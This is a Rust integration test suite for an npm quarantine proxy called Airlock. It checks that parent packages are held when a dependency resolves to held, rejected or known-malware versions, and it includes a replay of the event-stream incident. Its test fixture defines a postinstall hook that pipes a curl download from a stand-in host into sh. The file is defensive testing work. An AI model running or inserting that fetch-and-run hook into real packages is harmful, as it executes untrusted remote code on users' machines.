//! Dependency-aware holds (issue 13, item 5): a clean parent whose dependency, resolved
//! the way npm would resolve it through Airlock, is held, rejected or listed by the
//! known-malware feed is held too, naming the dependency and why (the event-stream
//! shape). Resolution uses Airlock's view: a held version is not listed, so a range an
//! older listed version satisfies resolves to that one and holds nothing.

use std::path::{Path, PathBuf};

use airlock_tests::{FakeRegistry, PackageVersion, TestApp, TestAppOptions, long_ago};
use serde_json::{Value, json};

/// An install hook that downloads and runs a script: the scanner holds it on its own.
fn malicious(name: &str, version: &str) -> PackageVersion {
    PackageVersion::new(name, version, chrono::Utc::now()).with_manifest(json!({
        "scripts": {"postinstall": "curl -fsSL https://get.payload-host.dev/install.sh | sh"}
    }))
}

fn depending_on(name: &str, version: &str, dependencies: Value) -> PackageVersion {
    PackageVersion::new(name, version, chrono::Utc::now()).with_manifest(json!({ "dependencies": dependencies }))
}

fn options(feed: Option<&Path>) -> TestAppOptions {
    TestAppOptions {
        // New versions cool and are checked in the background, as in production.
        cooling_period: "72h",
        extra_toml: feed
            .map(|feed| format!("[feeds]\ndirectory = {:?}\n", feed.display().to_string()))
            .unwrap_or_default(),
        ..TestAppOptions::default()
    }
}

fn findings<'a>(detail: &'a Value, rule: &str) -> Vec<&'a Value> {
    detail["checks"]["report"]["findings"]
        .as_array()
        .map(|findings| findings.iter().filter(|finding| finding["rule"] == rule).collect())
        .unwrap_or_default()
}

fn version_path(name: &str, version: &str) -> String {
    format!("/-/airlock/api/packages/{name}/versions/{version}")
}

/// Asks for a package so Airlock sees its versions, then waits for one to be decided.
async fn decided(app: &TestApp, name: &str, version: &str) -> Value {
    let (status, _) = app.get_json(&format!("/{name}")).await;
    assert_eq!(status, 200, "{name}");
    app.wait_for_decision(name, version).await
}

#[tokio::test]
async fn a_parent_whose_new_dependency_is_only_a_held_version_is_held_until_the_dependency_is_decided() {
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("parent", "1.0.0", long_ago()));
    upstream.publish(PackageVersion::new("child", "1.0.0", long_ago()));
    upstream.publish(malicious("child", "2.0.0"));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options(None)).await;

    // The payload version is held on its own findings, so Airlock does not list it.
    let child = decided(&app, "child", "2.0.0").await;
    assert_eq!(child["state"], "held", "{child:#}");
    let (_, packument) = app.get_json("/child").await;
    assert!(packument["versions"].get("2.0.0").is_none());

    // The parent's new release is clean itself and only adds `child@^2.0.0`, which
    // nothing listed satisfies: npm could get it only from the held version.
    upstream.publish(depending_on("parent", "1.0.1", json!({"child": "^2.0.0"})));
    let parent = decided(&app, "parent", "1.0.1").await;
    assert_eq!(parent["state"], "held", "{parent:#}");
    let held = findings(&parent, "dependency-held");
    assert_eq!(held.len(), 1, "{parent:#}");
    assert_eq!(held[0]["severity"], "high");
    let message = held[0]["message"].as_str().unwrap();
    assert!(
        message.starts_with(
            "depends on child@^2.0.0, which resolves to child@2.0.0, refused by Airlock: child@2.0.0 is held in quarantine until an Airlock admin decides: "
        ),
        "{message}"
    );
    // The child's own reason, so the admin sees why without opening the child.
    let child_reason: String = child["reason"].as_str().unwrap().chars().take(80).collect();
    assert!(message.contains(&child_reason), "{child_reason:?} in {message}");
    assert_eq!(held[0]["excerpt"], "dependencies: \"child\": \"^2.0.0\"");
    let reason = parent["reason"].as_str().unwrap();
    assert!(reason.starts_with("high finding dependency-held: depends on child@^2.0.0"), "{reason}");
    assert_eq!(app.get("/parent/-/parent-1.0.1.tgz").await.status(), 403);

    // An admin rejects the child. The parent was decided once and stays held; a
    // recheck resolves again and holds it with the rejection as the reason.
    let (status, _) = app
        .admin_post(&format!("{}/reject", version_path("child", "2.0.0")), Some("downloads and runs a payload"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(app.admin_get(&version_path("parent", "1.0.1")).await.1["state"], "held");
    let (status, _) = app.admin_post(&format!("{}/recheck", version_path("parent", "1.0.1")), None).await;
    assert_eq!(status, 200);
    let parent = app.wait_for_decision("parent", "1.0.1").await;
    assert_eq!(parent["state"], "held", "{parent:#}");
    let message = findings(&parent, "dependency-held")[0]["message"].as_str().unwrap().to_owned();
    assert!(
        message
            .contains("child@2.0.0 was rejected by admin:tester and cannot be installed: downloads and runs a payload"),
        "{message}"
    );

    // The admin then approves the child (a false positive after all). The parent still
    // waits for its own recheck, which finds the dependency listed and lets it cool.
    let (status, _) =
        app.admin_post(&format!("{}/approve", version_path("child", "2.0.0")), Some("our own installer")).await;
    assert_eq!(status, 200);
    assert_eq!(app.admin_get(&version_path("parent", "1.0.1")).await.1["state"], "held");
    let (status, _) = app.admin_post(&format!("{}/recheck", version_path("parent", "1.0.1")), None).await;
    assert_eq!(status, 200);
    let parent = app.wait_for_decision("parent", "1.0.1").await;
    assert_eq!(parent["state"], "cooling", "{parent:#}");
    assert!(findings(&parent, "dependency-held").is_empty(), "{parent:#}");
}

#[tokio::test]
async fn a_parent_whose_dependencies_resolve_to_listed_versions_passes() {
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("parent", "1.0.0", long_ago()));
    upstream.publish(PackageVersion::new("child", "1.0.0", long_ago()));
    upstream.publish(PackageVersion::new("child", "1.1.0", long_ago()));
    upstream.publish(malicious("child", "1.2.0"));
    upstream.publish(PackageVersion::new("helper", "3.1.4", long_ago()));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options(None)).await;
    assert_eq!(decided(&app, "child", "1.2.0").await["state"], "held");

    // `^1.0.0` is satisfied by the held 1.2.0, but npm through Airlock installs 1.1.0,
    // the highest listed version in the range: nothing malicious reaches the client.
    upstream.publish(depending_on(
        "parent",
        "1.0.1",
        json!({"child": "^1.0.0", "helper": "~3.1.0", "aliased": "npm:helper@^3.0.0"}),
    ));
    let parent = decided(&app, "parent", "1.0.1").await;
    assert_eq!(parent["state"], "cooling", "{parent:#}");
    let dependency_findings: Vec<&Value> = parent["checks"]["report"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["rule"].as_str().is_some_and(|rule| rule.starts_with("dependenc")))
        .collect();
    assert!(dependency_findings.is_empty(), "{parent:#}");
}

#[tokio::test]
async fn a_dependency_range_the_feed_says_resolves_to_malware_holds_the_parent() {
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("stream-parent", "3.3.5", long_ago()));
    upstream.publish(PackageVersion::new("other-parent", "1.0.0", long_ago()));
    // Clean-looking bytes, established long ago: Airlock lists them until their first
    // download; only the feed knows 0.1.1 is malicious.
    upstream.publish(PackageVersion::new("flat-stream", "0.0.9", long_ago()));
    upstream.publish(PackageVersion::new("flat-stream", "0.1.1", long_ago()));
    let feed = tempfile::tempdir().unwrap();
    let advisory = json!({
        "id": "MAL-2018-42",
        "summary": "steals the wallets of one application",
        "affected": [{"package": {"ecosystem": "npm", "name": "flat-stream"}, "versions": ["0.1.1"]}]
    });
    std::fs::write(feed.path().join("MAL-2018-42.json"), advisory.to_string()).unwrap();
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options(Some(feed.path()))).await;

    // `^0.1.0` can only be the listed malware.
    upstream.publish(depending_on("stream-parent", "3.3.6", json!({"flat-stream": "^0.1.0"})));
    let parent = decided(&app, "stream-parent", "3.3.6").await;
    assert_eq!(parent["state"], "held", "{parent:#}");
    let known = findings(&parent, "dependency-known-malware");
    assert_eq!(known.len(), 1, "{parent:#}");
    assert_eq!(known[0]["severity"], "critical");
    assert_eq!(
        known[0]["message"],
        "depends on flat-stream@^0.1.0, which resolves to flat-stream@0.1.1, listed as malicious by the known-malware feed (MAL-2018-42); no version that satisfies it is installable."
    );

    // A range the clean 0.0.9 also satisfies ends there: the feed-listed version is
    // never installable (its own check holds it), so npm falls back to 0.0.9.
    upstream.publish(depending_on("other-parent", "1.0.1", json!({"flat-stream": "<0.2.0"})));
    let other = decided(&app, "other-parent", "1.0.1").await;
    assert_eq!(other["state"], "cooling", "{other:#}");
    assert!(findings(&other, "dependency-known-malware").is_empty(), "{other:#}");
    assert_eq!(app.get("/flat-stream/-/flat-stream-0.1.1.tgz").await.status(), 403);
    assert_eq!(app.get("/flat-stream/-/flat-stream-0.0.9.tgz").await.status(), 200);
}

#[tokio::test]
async fn a_parent_and_its_new_dependency_published_together_are_resolved_again_when_the_parent_cools() {
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("parent", "1.0.0", long_ago()));
    upstream.publish(PackageVersion::new("child", "1.0.0", long_ago()));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options(None)).await;
    let (status, _) = app.get_json("/parent").await;
    assert_eq!(status, 200);

    // Both new at once: when the parent is checked, `child@2.0.0` was only just seen and
    // is still being checked, so npm could get it only if it passes: no hold yet.
    upstream.publish(malicious("child", "2.0.0"));
    upstream.publish(depending_on("parent", "1.0.1", json!({"child": "^2.0.0"})));
    app.clock.advance(std::time::Duration::from_secs(6 * 60));
    let parent = decided(&app, "parent", "1.0.1").await;
    assert_eq!(parent["state"], "cooling", "{parent:#}");
    assert!(findings(&parent, "dependency-held").is_empty(), "{parent:#}");
    let noted = findings(&parent, "dependency-in-quarantine");
    assert_eq!(noted.len(), 1, "{parent:#}");
    assert_eq!(noted[0]["severity"], "info");
    assert!(noted[0]["message"].as_str().unwrap().contains("(the newest: child@2.0.0)"), "{noted:#?}");
    assert_eq!(app.wait_for_decision("child", "2.0.0").await["state"], "held");

    // When the parent's cooling period ends, its dependencies are resolved again before
    // it is released, and the held child holds it.
    app.clock.advance(std::time::Duration::from_secs(73 * 3600));
    assert_eq!(app.get("/parent/-/parent-1.0.1.tgz").await.status(), 403);
    let (_, parent) = app.admin_get(&version_path("parent", "1.0.1")).await;
    assert_eq!(parent["state"], "held", "{parent:#}");
    assert!(
        parent["reason"]
            .as_str()
            .unwrap()
            .starts_with("high finding dependency-held: depends on child@^2.0.0, which resolves to child@2.0.0"),
        "{parent:#}"
    );
    assert_eq!(findings(&parent, "dependency-held").len(), 1, "the stored findings are updated: {parent:#}");
    assert!(findings(&parent, "dependency-in-quarantine").is_empty(), "replaced by the new resolution: {parent:#}");
    assert_eq!(app.get("/parent/-/parent-1.0.0.tgz").await.status(), 200, "the previous release is untouched");
}

#[tokio::test]
async fn a_dependency_airlock_cannot_read_is_reported_and_holds_only_where_the_policy_says() {
    // The `@internal` scope's registry is down: its packuments cannot be read.
    let unreachable = "[[upstream.scopes]]\nscope = \"@internal\"\nurl = \"http://127.0.0.1:1\"\n";
    let fail_closed = "[quarantine.rule_severity]\n\"dependency-unchecked\" = \"high\"\n";
    for (policy, state, severity) in [("", "cooling", "medium"), (fail_closed, "held", "high")] {
        let upstream = FakeRegistry::start().await;
        upstream.publish(PackageVersion::new("parent", "1.0.0", long_ago()));
        upstream.publish(depending_on("parent", "1.0.1", json!({"@internal/config": "^1.0.0"})));
        let data_dir = tempfile::tempdir().unwrap();
        let options = TestAppOptions { extra_toml: format!("{unreachable}{policy}"), ..options(None) };
        let app = TestApp::spawn(&upstream.url(), data_dir.path(), options).await;

        let parent = decided(&app, "parent", "1.0.1").await;
        assert_eq!(parent["state"], state, "{policy}: {parent:#}");
        let unchecked = findings(&parent, "dependency-unchecked");
        assert_eq!(unchecked.len(), 1, "{parent:#}");
        assert_eq!(unchecked[0]["severity"], severity);
        let message = unchecked[0]["message"].as_str().unwrap();
        assert!(
            message.starts_with(
                "depends on @internal/config@^1.0.0, but Airlock could not read the packument of @internal/config to resolve it: "
            ),
            "{message}"
        );
        let incomplete = parent["checks"]["incomplete"].to_string();
        assert!(incomplete.contains("dependencies: @internal/config: "), "{parent:#}");
        app.stop().await;
    }
}

/// The scanner corpus's reconstruction of flatmap-stream 0.1.1 (written by the team,
/// modelled on the 2018 incident; not a real sample), published now.
fn flatmap_stream_reconstruction() -> PackageVersion {
    let case = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scanner/test_data/malicious/event-stream-flatmap-stream");
    let mut version = PackageVersion::new("flatmap-stream", "0.1.1", chrono::Utc::now());
    let mut pending: Vec<PathBuf> = vec![case.clone()];
    while let Some(directory) = pending.pop() {
        for entry in std::fs::read_dir(&directory).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else if path.file_name().is_some_and(|name| name != "package.json") {
                let relative = path.strip_prefix(&case).unwrap().to_str().unwrap().to_owned();
                version = version.with_file(&relative, &std::fs::read(&path).unwrap());
            }
        }
    }
    version.with_manifest(json!({"description": "flatmap-stream test case"}))
}

#[tokio::test]
async fn the_event_stream_replay_never_reaches_a_client_through_its_parent() {
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("event-stream", "3.3.5", long_ago()));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), options(None)).await;
    assert_eq!(app.get("/event-stream/-/event-stream-3.3.5.tgz").await.status(), 200);

    // The new maintainer publishes the payload as a new package, and a release of the
    // popular parent that depends on it.
    upstream.publish(flatmap_stream_reconstruction());
    upstream.publish(depending_on("event-stream", "3.3.6", json!({"flatmap-stream": "^0.1.1"})));
    app.clock.advance(std::time::Duration::from_secs(6 * 60));
    assert_eq!(decided(&app, "event-stream", "3.3.6").await["state"], "cooling");
    let payload = app.wait_for_decision("flatmap-stream", "0.1.1").await;
    assert_eq!(payload["state"], "held", "{payload:#}");

    // Three days later the parent would be released (by the first download, or the
    // dispatcher's sweep, whichever comes first); it is held instead, and says why.
    app.clock.advance(std::time::Duration::from_secs(73 * 3600));
    assert_eq!(app.get("/event-stream/-/event-stream-3.3.6.tgz").await.status(), 403);
    let (_, packument) = app.get_json("/event-stream").await;
    assert_eq!(packument["dist-tags"]["latest"], "3.3.5", "{packument:#}");
    assert!(packument["versions"].get("3.3.6").is_none(), "{packument:#}");
    let (_, parent) = app.admin_get(&version_path("event-stream", "3.3.6")).await;
    assert_eq!(parent["state"], "held", "{parent:#}");
    let held = findings(&parent, "dependency-held");
    assert_eq!(held.len(), 1, "{parent:#}");
    assert!(
        held[0]["message"].as_str().unwrap().starts_with(
            "depends on flatmap-stream@^0.1.1, which resolves to flatmap-stream@0.1.1, refused by Airlock: flatmap-stream@0.1.1 is held in quarantine"
        ),
        "{parent:#}"
    );
    assert_eq!(app.get("/flatmap-stream/-/flatmap-stream-0.1.1.tgz").await.status(), 403);
    let metrics = app.get("/-/airlock/metrics").await.text().await.unwrap();
    assert!(metrics.contains("airlock_holds_total{rule=\"dependency-held\"} 1"), "{metrics}");
}
